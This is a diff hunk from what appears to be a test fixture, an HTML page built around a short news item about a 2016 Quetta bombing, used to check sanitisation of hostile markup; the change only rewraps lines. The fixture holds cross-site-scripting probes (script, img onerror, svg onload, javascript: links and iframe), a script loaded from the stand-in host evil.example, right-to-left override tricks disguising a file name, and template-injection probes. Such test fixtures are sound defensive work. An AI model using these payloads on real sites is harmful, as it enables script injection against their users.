@@ -18,10 +18,13 @@ PAGE = f"""<!doctype html><html><head><title>placeholder</title>
 <meta property="og:title" content="{quote("x")}">
 <link rel="canonical" href="javascript:window.pwned=4"></head><body><article>
 <h1>Bomb kills 12 in Quetta &lt;script&gt;window.pwned=5&lt;/script&gt; \u202egnp.exe\u202c</h1>
-<p>QUETTA, Oct 25 2016 - A bomb killed 12 people in Quetta &lt;img src=x onerror=window.pwned=6&gt; on Monday, the police said.
+<p>QUETTA, Oct 25 2016 - A bomb killed 12 people in Quetta &lt;img src=x onerror=window.pwned=6&gt;
+on Monday, the police said.
 &lt;svg onload="window.pwned=7"&gt;&lt;/svg&gt; \u202edesrever si siht\u202c and
-&lt;a href="javascript:window.pwned=8"&gt;here&lt;/a&gt; it goes on. "&gt;&lt;script src=//evil.example/x.js&gt;&lt;/script&gt;</p>
-<p>The Islamic State "&gt;&lt;iframe src=javascript:window.pwned=9&gt; claimed the attack. {{{{ 7*7 }}}} ${{7*7}}</p>
+&lt;a href="javascript:window.pwned=8"&gt;here&lt;/a&gt; it goes on.
+"&gt;&lt;script src=//evil.example/x.js&gt;&lt;/script&gt;</p>
+<p>The Islamic State "&gt;&lt;iframe src=javascript:window.pwned=9&gt; claimed
+the attack. {{{{ 7*7 }}}} ${{7*7}}</p>
 </article></body></html>"""
 
 
